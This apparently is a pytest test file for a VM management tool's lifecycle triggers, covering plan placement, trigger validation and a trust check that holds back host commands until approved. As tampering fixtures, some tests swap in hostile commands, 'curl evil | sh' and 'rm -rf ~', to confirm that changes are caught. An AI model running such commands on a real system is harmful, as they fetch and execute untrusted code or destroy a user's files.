"""Triggers: where the plan places them, what the Taperfile refuses, and that commands a
Taperfile runs on the host need the person's approval first (a Taperfile may come from
anyone)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tapers.backend.api import State
from tapers.engine import triggers, trust
from tapers.engine.plan import plan_destroy, plan_halt, with_triggers
from tapers.errors import TaperfileError, TriggerError
from tapers.project import open_project
from tests.unit.test_plan import container, machines, observed

TAPERFILE = """\
version: 1
name: shop
machines:
  db:
    triggers:
      - {name: dump, before: destroy, run_remote: "pg_dump shop > /tapers/shop.sql"}
      - {after: [halt, destroy], run: "echo gone"}
  web: {}
"""


def test_triggers_go_around_the_machines_own_actions(tmp_path: Path) -> None:
    db, web = machines(tmp_path, TAPERFILE)
    seen = observed(container("db", State.RUNNING), container("web", State.RUNNING))
    plan = with_triggers(plan_destroy([db, web], seen, orphans=True), "destroy", [db, web], seen)
    assert str(plan).splitlines() == [
        'db: run trigger 1 "dump" in the machine (before destroy)',
        "db: destroy (running)",
        "db: run trigger 2 on the host (after destroy)",
        "web: destroy (running)",
        "network: release networks (no machine of this project is left: its host-only networks go; the NAT "
        "network stays)",
    ]


def test_a_machine_the_command_leaves_alone_triggers_nothing(tmp_path: Path) -> None:
    db, web = machines(tmp_path, TAPERFILE)
    seen = observed(container("db", State.STOPPED), container("web", State.RUNNING))
    plan = with_triggers(plan_halt([db, web], seen), "halt", [db, web], seen)
    assert str(plan) == "web: halt (running)"  # db is halted already: its after-halt trigger doesn't run


def test_a_trigger_in_a_machine_that_isnt_running_is_left_out_and_said(tmp_path: Path) -> None:
    db, web = machines(tmp_path, TAPERFILE)
    seen = observed(container("db", State.STOPPED))
    plan = with_triggers(plan_destroy([db, web], seen, orphans=True), "destroy", [db, web], seen)
    assert [str(a) for a in plan.actions][:2] == ["db: destroy (stopped)", "db: run trigger 2 on the host (after destroy)"]
    assert plan.notes == ("`db` trigger 1 \"dump\" runs in the machine, which isn't running: not run before `destroy`",)


@pytest.mark.parametrize("trigger, message", [
    ('{before: up, run_remote: "true"}', "`run_remote:` can't run before `up`: the machine isn't running then"),
    ('{after: destroy, run_remote: "true"}', "`run_remote:` can't run after `destroy`"),
    ('{before: boot, run: "true"}', "machines.db.triggers[1].before[1]: input should be 'up'"),
    ('{run: "true"}', "say when with `before: EVENT` or `after: EVENT`"),
    ('{before: up, run: "true", run_remote: "true"}', "exactly one"),
    ('{before: up, run: {path: missing.sh}}', "`missing.sh` does not exist"),
])
def test_a_wrong_trigger_is_refused_with_where_it_is(tmp_path: Path, trigger: str, message: str) -> None:
    with pytest.raises(TaperfileError) as refused:
        machines(tmp_path, f"version: 1\nmachines:\n  db:\n    triggers:\n      - {trigger}\n")
    assert message in refused.value.message and "Taperfile.yaml:5:" in refused.value.message


def test_inline_trigger_scripts_keep_their_dollars(tmp_path: Path) -> None:
    (db,) = machines(tmp_path, 'version: 1\nmachines:\n  db:\n    triggers:\n'
                               '      - {after: up, run: "echo $HOME ${TAPERS_MACHINE}", run_remote: null}\n')
    assert db.triggers[0].options["inline"] == "echo $HOME ${TAPERS_MACHINE}"


def test_host_commands_need_approval_and_any_change_asks_again(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("TAPERS_HOME", str(tmp_path / "home"))
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "Taperfile.yaml").write_text(TAPERFILE)
    project = open_project(folder / "Taperfile.yaml")
    with pytest.raises(TriggerError) as refused:
        trust.require(project, triggers.host_commands(project, {"halt"}))
    assert "`db` trigger 2, after halt/destroy: sh -c 'echo gone'" in refused.value.message
    assert "tapers trust" in (refused.value.hint or "")
    trust.require(project, triggers.host_commands(project, {"up"}))  # no host command runs on `up`: nothing to approve

    trust.approve(project, triggers.host_commands(project))
    trust.require(project, triggers.host_commands(project, {"halt"}))
    assert (tmp_path / "home" / trust.TRUSTED).stat().st_mode & 0o777 == 0o600

    (folder / "Taperfile.yaml").write_text(TAPERFILE.replace("echo gone", "curl evil | sh"))
    with pytest.raises(TriggerError):
        trust.require(other := open_project(folder / "Taperfile.yaml"), triggers.host_commands(other, {"halt"}))


def test_a_changed_script_file_asks_again(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("TAPERS_HOME", str(tmp_path / "home"))
    (tmp_path / "notify.sh").write_text("echo hi\n")
    (tmp_path / "Taperfile.yaml").write_text(
        "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
    project = open_project(tmp_path / "Taperfile.yaml")
    trust.approve(project, triggers.host_commands(project))
    trust.require(project, triggers.host_commands(project, {"up"}))
    (tmp_path / "notify.sh").write_text("rm -rf ~\n")
    with pytest.raises(TriggerError, match="the script notify.sh:\n    \\| rm -rf ~"):
        trust.require(project, triggers.host_commands(project, {"up"}))


def test_a_script_changed_after_the_check_is_not_run(tmp_path: Path, monkeypatch) -> None:
    """A machine writes the project folder: it may swap the script while the command runs."""
    from tapers.events import SilentReporter

    monkeypatch.setenv("TAPERS_HOME", str(tmp_path / "home"))
    marker = tmp_path / "ran"
    (tmp_path / "notify.sh").write_text(f"echo approved > {marker}\n")
    (tmp_path / "Taperfile.yaml").write_text(
        "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
    project = open_project(tmp_path / "Taperfile.yaml")
    trust.approve(project, triggers.host_commands(project))
    trust.require(project, triggers.host_commands(project, {"up"}))
    (tmp_path / "notify.sh").write_text(f"echo swapped > {marker}\n")
    (db,) = project.machines
    with pytest.raises(TriggerError, match="changed since you approved it"):
        triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
    assert not marker.exists()

    (tmp_path / "notify.sh").write_text(f"echo approved > {marker}\n")
    triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
    assert marker.read_text() == "approved\n"


def test_a_relative_interpreter_is_not_run(tmp_path: Path, monkeypatch) -> None:
    """`#!./tool` would run the project folder's ./tool, which nobody approved."""
    from tapers.events import SilentReporter

    monkeypatch.setenv("TAPERS_HOME", str(tmp_path / "home"))
    (tmp_path / "tool").write_text(f"#!/bin/sh\ntouch {tmp_path / 'tool-ran'}\n")
    (tmp_path / "tool").chmod(0o755)
    (tmp_path / "notify.sh").write_text("#!./tool\n")
    (tmp_path / "Taperfile.yaml").write_text(
        "version: 1\nmachines:\n  db:\n    triggers:\n      - {after: up, run: {path: notify.sh}}\n")
    project = open_project(tmp_path / "Taperfile.yaml")
    trust.approve(project, triggers.host_commands(project))
    (db,) = project.machines
    with pytest.raises(TriggerError, match="not an absolute path"):
        triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
    assert not (tmp_path / "tool-ran").exists()


def test_a_host_script_gets_its_path_arguments_and_the_project(tmp_path: Path, monkeypatch) -> None:
    from tapers.events import SilentReporter

    monkeypatch.setenv("TAPERS_HOME", str(tmp_path / "home"))
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "notify.sh").write_text('echo "$0|$1|$2|$TAPERS_PROJECT|$TAPERS_TRIGGER|$GREETING" > out\n')
    (tmp_path / "Taperfile.yaml").write_text(
        "version: 1\nmachines:\n  db:\n    triggers:\n"
        "      - {after: up, run: {path: bin/notify.sh, args: [one, two words], env: {GREETING: hi}}}\n")
    project = open_project(tmp_path / "Taperfile.yaml")
    trust.approve(project, triggers.host_commands(project))
    (db,) = project.machines
    triggers.run_on_host(project, "db", db.triggers[0], "up", SilentReporter())
    assert (tmp_path / "out").read_text() == f"bin/notify.sh|one|two words|{tmp_path}|after up|hi\n"
